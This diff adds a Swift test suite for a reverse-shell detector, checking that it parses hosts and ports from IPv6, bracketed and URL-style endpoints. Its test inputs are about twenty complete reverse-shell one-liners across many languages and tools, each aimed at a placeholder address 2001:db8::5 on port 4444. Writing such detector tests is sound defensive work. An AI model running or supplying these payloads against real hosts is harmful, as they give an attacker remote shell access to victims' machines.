@@ -1,0 +1,51 @@
+import Bytes
+import Testing
+
+@testable import Detectors
+
+private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }
+
+/// Which host and which port, where colons, plus signs or plain words make it hard to tell.
+@Suite struct ReverseShellEndpointTests {
+  /// The colons of an IPv6 address part no port from it, and its brackets are not told.
+  @Test(arguments: [
+    "python3 -c 'import socket,os;s=socket.create_connection((\"2001:db8::5\",4444));os.dup2(s.fileno(),0);os.system(\"sh\")'",
+    "python3 -c 'import socket,os,pty;s=socket.socket(10);s.connect((\"2001:db8::5\",4444,0,0));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+    "python3 -c 'import socket,os,pty;h=\"2001:db8::5\";s=socket.socket(10);s.connect((h,4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+    "ruby -rsocket -e 'f=TCPSocket.open(\"2001:db8::5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
+    "node -e 'require(\"net\").connect(4444,\"2001:db8::5\",function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin);s.stdout.pipe(this)})'",
+    "node -e 'require(\"net\").connect({port:4444,host:\"2001:db8::5\"},function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin);s.stdout.pipe(this)})'",
+    "Process p=new ProcessBuilder(\"/bin/sh\").start();Socket s=new Socket(\"2001:db8::5\",4444);s.getInputStream();",
+    "lua -e 'require(\"socket\");t=socket.tcp();t:connect(\"2001:db8::5\",\"4444\");os.execute(\"/bin/sh -i <&3 >&3\")'",
+    "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('2001:db8::5',4444);$s=$c.GetStream();iex $d\"",
+    "php -r '$s=fsockopen(\"[2001:db8::5]\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+    "php -r '$s=fsockopen(\"tcp://[2001:db8::5]\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+    "php -r '$s=stream_socket_client(\"tcp://[2001:db8::5]:4444\");exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+    "perl -MIO::Socket -e '$c=IO::Socket::INET6->new(PeerAddr=>\"[2001:db8::5]:4444\");STDIN->fdopen($c,r);exec(\"sh\")'",
+    "perl -MIO::Socket -e '$c=IO::Socket::INET6->new(PeerAddr=>\"2001:db8::5\",PeerPort=>4444);STDIN->fdopen($c,r);exec(\"sh\")'",
+    "c,_:=net.Dial(\"tcp\",\"[2001:db8::5]:4444\");p:=exec.Command(\"/bin/sh\");p.Stdin=c;p.Run()",
+    "socat TCP6:[2001:db8::5]:4444 EXEC:/bin/sh", "bash -i >& /dev/tcp/[2001:db8::5]/4444 0>&1",
+    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect [2001:db8::5]:4444 > /tmp/s",
+    "bash -i >& /dev/tcp/2001:db8::5/4444 0>&1", "nc -6 2001:db8::5 4444 -e /bin/sh",
+  ])
+  func anAddressKeepsItsColons(text: String) {
+    let found = shells(text)
+    #expect(found.count == 1)
+    #expect(found.first?.host == "2001:db8::5")
+    #expect(found.first?.port == 4444)
+  }
+
+  @Test(arguments: [
+    ("[2001:db8::5]:4444", "2001:db8::5", 4444), ("::ffff:192.0.2.7:4444", "::ffff:192.0.2.7", 4444),
+    ("[fe80::1%eth0]:4444", "fe80::1%eth0", 4444), ("tcp://192.0.2.7:4444", "192.0.2.7", 4444),
+    ("kali:4444,verify=0", "kali", 4444),
+  ])
+  func aPairHasAPort(text: String, host: String, port: Int) {
+    #expect(text.withView { Endpoint.pair($0) } == Endpoint(host: host, port: port))
+  }
+
+  @Test(arguments: [
+    "2001:db8::5", "::1", "[2001:db8::5]", "::ffff:192.0.2.7", "fe80::1%eth0", "[2001:db8::5", "[]", "[",
+  ])
+  func anAddressAloneIsNoPair(text: String) { #expect(text.withView { Endpoint.pair($0)?.host } == nil) }
+}
